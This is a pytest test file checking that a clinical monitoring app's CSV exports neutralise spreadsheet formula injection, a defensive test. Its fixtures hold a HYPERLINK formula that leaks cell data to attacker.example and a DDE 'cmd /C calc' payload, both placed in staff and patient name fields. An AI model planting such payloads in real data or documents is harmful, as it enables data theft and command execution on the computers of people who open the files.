"""Finding 12: no CSV export hands a spreadsheet a formula. Every text cell that starts like a
formula (OWASP: =, +, -, @, tab, carriage return) leaves with a leading single quote, in
sessions.csv, readings.csv and rems.csv; numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest

from monitor.config import Config
from monitor.db import audit_queries as aq
from monitor.db.engine import Database
from monitor.domain.csv_cells import csv_line, fixed, neutralise
from monitor.domain.permissions import Role
from monitor.services import quality
from monitor.services.people import create_patient, create_user
from monitor.services.session_lifecycle import open_session
from tests import factories
from tests.factories import PASSWORD, T0

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for results")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _exports(database: Database, config: Config) -> dict[str, list[list[str]]]:
    """A session whose nurse, physician-to-be and patient carry formulas, with readings."""
    nurse = create_user(
        database=database, username="evilnurse", full_name=HYPERLINK, role=Role.NURSE,
        password=PASSWORD,
    )  # fmt: skip
    auditor = factories.user(database, Role.AUDITOR)
    pid = create_patient(
        database=database, config=config, mrn="EVIL-1", family_name="@SUM(1+1)*cmd|' /C calc'!A0",
        given_name="+1-2", birth_date=date(1980, 1, 1), weight_kg=80,
    )  # fmt: skip
    factories.ready_course(database, config, pid)
    sid = open_session(
        database=database, config=config, actor=nurse, patient_id=pid,
        chair=config.clinic.chairs[0], protocol_id=config.default_protocol.id, weight_kg=80,
        idempotency_key=factories.key(), now=T0 - timedelta(minutes=15),
    ).session_id  # fmt: skip
    factories.reading(database, config, nurse, sid, T0 - timedelta(minutes=5))
    query = aq.HistoryFilter()
    return {
        "sessions.csv": _rows(
            "".join(
                quality.sessions_csv(database=database, config=config, actor=auditor, query=query)
            )
        ),
        "readings.csv": _rows(
            "".join(
                quality.readings_csv(database=database, config=config, actor=auditor, query=query)
            )
        ),
        "rems.csv": _rows(
            quality.rems_csv(database=database, config=config, actor=auditor, session_id=sid)
        ),
    }


def test_no_export_cell_starts_like_a_formula(database: Database, config: Config) -> None:
    for name, rows in _exports(database, config).items():
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), f"{name}: {cell!r}"


def test_the_text_is_kept_behind_one_quote(database: Database, config: Config) -> None:
    exports = _exports(database, config)
    sessions = dict(zip(*exports["sessions.csv"], strict=True))
    assert sessions["nurse"] == "'" + HYPERLINK
    assert sessions["patient"].startswith("'@SUM(1+1)")
    readings = dict(zip(*exports["readings.csv"], strict=True))
    assert readings["entered_by"] == "'" + HYPERLINK
    rems = dict(exports["rems.csv"])
    assert rems["patient"].startswith("'@SUM(1+1)")


def test_numbers_are_left_alone(database: Database, config: Config) -> None:
    exports = _exports(database, config)
    readings = dict(zip(*exports["readings.csv"], strict=True))
    assert (readings["systolic"], readings["diastolic"], readings["spo2"]) == ("120", "80", "98")
    sessions = dict(zip(*exports["sessions.csv"], strict=True))
    assert sessions["dose_mg"] == "40.0" and sessions["mrn"] == "EVIL-1"
    rems = dict(exports["rems.csv"])
    assert rems["dose_mg"] == "40.0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is still text (an MRN, a name)
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),  # an importer that trims blanks would find the formula
        ("\n@x", "'\n@x"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign
        ("=", "'="),
        ("", ""),
        ("a=1", "a=1"),
        ("'=1", "'=1"),  # already quoted: left alone
        ("Smith-Jones", "Smith-Jones"),
        ("120/80", "120/80"),
        ("2026-11-20T08:00:00-07:00", "2026-11-20T08:00:00-07:00"),
        (-5, -5),  # numbers by type, negative ones too
        (-0.5, -0.5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (0, 0),
        (True, True),
        (None, None),
    ],
)
def test_the_rule_at_its_edges(value: object, written: object) -> None:
    assert neutralise(value) == written
    assert type(neutralise(value)) is type(written)


def test_a_line_keeps_numbers_and_quotes_formulas() -> None:
    line = csv_line([-5, -0.25, fixed(-1.5, 3), "-5", '=HYPERLINK("x","y")', "ok"])
    assert line == '-5,-0.25,-1.500,\'-5,"\'=HYPERLINK(""x"",""y"")",ok\r\n'


@pytest.mark.parametrize(
    ("number", "places", "text"),
    [(0.5, 3, "0.500"), (2.675, 2, "2.67"), (125.4, 0, "125"), (-3.14159, 2, "-3.14")],
)
def test_fixed_decimals_print_as_the_format_did(number: float, places: int, text: str) -> None:
    assert str(fixed(number, places)) == text == f"{number:.{places}f}"
